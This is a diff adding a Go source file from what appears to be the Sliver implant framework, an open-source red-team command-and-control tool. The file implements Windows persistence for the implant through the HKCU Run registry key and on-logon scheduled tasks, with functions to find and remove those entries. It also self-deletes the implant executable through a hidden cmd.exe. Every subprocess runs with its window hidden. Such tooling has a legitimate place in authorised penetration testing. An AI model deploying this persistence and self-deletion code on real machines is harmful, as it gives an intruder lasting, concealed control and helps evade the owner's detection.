@@ -0,0 +1,166 @@
+// +build windows
+
+package persist
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"encoding/csv"
+	"fmt"
+	"os/exec"
+	"strings"
+	"syscall"
+
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+
+	"golang.org/x/sys/windows/registry"
+)
+
+const (
+	runKeyPath = `Software\Microsoft\Windows\CurrentVersion\Run`
+)
+
+var (
+	techniques = map[string]technique{
+		"runkey":  {install: installRunKey, remove: removeRunKey, find: findRunKey},
+		"schtask": {install: installScheduledTask, remove: removeScheduledTask, find: findScheduledTasks},
+	}
+)
+
+func installRunKey(name string, command string) (*sliverpb.PersistRecipe, error) {
+	key, _, err := registry.CreateKey(registry.CURRENT_USER, runKeyPath, registry.SET_VALUE)
+	if err != nil {
+		return nil, err
+	}
+	defer key.Close()
+	err = key.SetStringValue(name, command)
+	if err != nil {
+		return nil, err
+	}
+	return &sliverpb.PersistRecipe{
+		Path:    `HKCU\` + runKeyPath,
+		Cleanup: []string{fmt.Sprintf(`reg delete "HKCU\%s" /v "%s" /f`, runKeyPath, name)},
+	}, nil
+}
+
+func removeRunKey(recipe *sliverpb.PersistRecipe) error {
+	key, err := registry.OpenKey(registry.CURRENT_USER, runKeyPath, registry.SET_VALUE)
+	if err != nil {
+		return err
+	}
+	defer key.Close()
+	return key.DeleteValue(recipe.Name)
+}
+
+// findRunKey - Run key values that start executable
+func findRunKey(executable string) []*sliverpb.PersistRecipe {
+	recipes := []*sliverpb.PersistRecipe{}
+	key, err := registry.OpenKey(registry.CURRENT_USER, runKeyPath, registry.QUERY_VALUE)
+	if err != nil {
+		return recipes
+	}
+	defer key.Close()
+	names, err := key.ReadValueNames(-1)
+	if err != nil {
+		return recipes
+	}
+	for _, name := range names {
+		value, _, err := key.GetStringValue(name)
+		if err != nil || !strings.Contains(strings.ToLower(value), strings.ToLower(executable)) {
+			continue
+		}
+		recipes = append(recipes, &sliverpb.PersistRecipe{Name: name, Path: `HKCU\` + runKeyPath})
+	}
+	return recipes
+}
+
+func installScheduledTask(name string, command string) (*sliverpb.PersistRecipe, error) {
+	err := schtasks("/create", "/f", "/sc", "onlogon", "/tn", name, "/tr", command)
+	if err != nil {
+		return nil, err
+	}
+	return &sliverpb.PersistRecipe{
+		Path:    name,
+		Cleanup: []string{fmt.Sprintf(`schtasks /delete /f /tn "%s"`, name)},
+	}, nil
+}
+
+func removeScheduledTask(recipe *sliverpb.PersistRecipe) error {
+	return schtasks("/delete", "/f", "/tn", recipe.Name)
+}
+
+// findScheduledTasks - Scheduled tasks that start executable, the query
+// output repeats its header row so columns are looked up by name
+func findScheduledTasks(executable string) []*sliverpb.PersistRecipe {
+	recipes := []*sliverpb.PersistRecipe{}
+	cmd := exec.Command("schtasks.exe", "/query", "/fo", "csv", "/v")
+	cmd.SysProcAttr = &syscall.SysProcAttr{
+		HideWindow: true,
+	}
+	output, err := cmd.Output()
+	if err != nil {
+		return recipes
+	}
+	reader := csv.NewReader(strings.NewReader(string(output)))
+	reader.FieldsPerRecord = -1
+	rows, err := reader.ReadAll()
+	if err != nil {
+		return recipes
+	}
+	nameIndex, runIndex := -1, -1
+	for _, row := range rows {
+		if 0 < len(row) && row[0] == "HostName" {
+			for index, column := range row {
+				switch column {
+				case "TaskName":
+					nameIndex = index
+				case "Task To Run":
+					runIndex = index
+				}
+			}
+			continue
+		}
+		if nameIndex == -1 || runIndex == -1 || len(row) <= nameIndex || len(row) <= runIndex {
+			continue
+		}
+		if strings.Contains(strings.ToLower(row[runIndex]), strings.ToLower(executable)) {
+			name := strings.TrimPrefix(row[nameIndex], `\`)
+			recipes = append(recipes, &sliverpb.PersistRecipe{Name: name, Path: name})
+		}
+	}
+	return recipes
+}
+
+// removeExecutable - A running executable can't be deleted on Windows, so
+// a hidden cmd.exe waits for us to exit and deletes it
+func removeExecutable(executable string) error {
+	cmd := exec.Command("cmd.exe", "/c", fmt.Sprintf(`ping -n 3 127.0.0.1 > nul & del /f /q "%s"`, executable))
+	cmd.SysProcAttr = &syscall.SysProcAttr{
+		HideWindow: true,
+	}
+	return cmd.Start()
+}
+
+func schtasks(args ...string) error {
+	cmd := exec.Command("schtasks.exe", args...)
+	cmd.SysProcAttr = &syscall.SysProcAttr{
+		HideWindow: true,
+	}
+	return run(cmd)
+}